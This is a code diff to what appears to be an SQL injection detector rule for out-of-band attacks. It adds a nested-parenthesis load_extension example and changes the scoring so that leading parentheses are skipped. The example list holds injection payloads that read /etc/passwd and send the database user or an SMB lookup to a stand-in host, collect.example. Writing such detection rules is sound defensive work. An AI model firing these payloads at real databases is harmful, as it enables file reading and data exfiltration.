@@ -30,6 +30,7 @@ export const outOfBand: ValueRule = {
   trigger: outsideTrigger,
   judge: (subject) => strongestCall(subject, outsideClasses, scoreOf),
   examples: [
+    "(load_extension( ('x.so') ) )",
     "1 union select load_file('/etc/passwd')",
     "'||utl_http.request('http://collect.example/'||user)||'",
     "exec master..xp_dirtree '\\\\\\\\collect.example\\\\x'",
@@ -52,7 +53,9 @@ function scoreOf(call: Call, tokens: SqlTokens): number {
     return hasAny(call.expression, sqlArgument) || call.expression.operands > 0
       ? confidence.certain
       : confidence.hint;
-  const first = tokens.kind[skipComments(tokens, next + 1)] as number;
+  let inner = skipComments(tokens, next + 1);
+  while (tokens.kind[inner] === sqlToken.open) inner = skipComments(tokens, inner + 1);
+  const first = tokens.kind[inner] as number;
   if (isQuote(first) || first === sqlToken.number) return confidence.certain;
   return hasAny(call.expression, sqlArgument) ? confidence.certain : confidence.hint;
 }
